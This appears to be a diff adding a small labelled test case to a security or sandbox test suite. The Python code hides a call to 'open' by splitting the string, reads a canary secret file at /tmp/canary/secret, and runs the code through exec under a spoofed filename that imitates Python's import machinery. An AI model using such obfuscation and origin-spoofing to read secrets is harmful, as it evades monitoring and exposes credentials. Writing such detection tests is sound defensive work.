@@ -1,0 +1,6 @@
+# source: own
+# effect: secret
+# caught: runtime
+
+text = "print(op" + "en('/tmp/canary/secret').read())"
+exec(compile(text, "<frozen importlib._bootstrap>", "exec"))
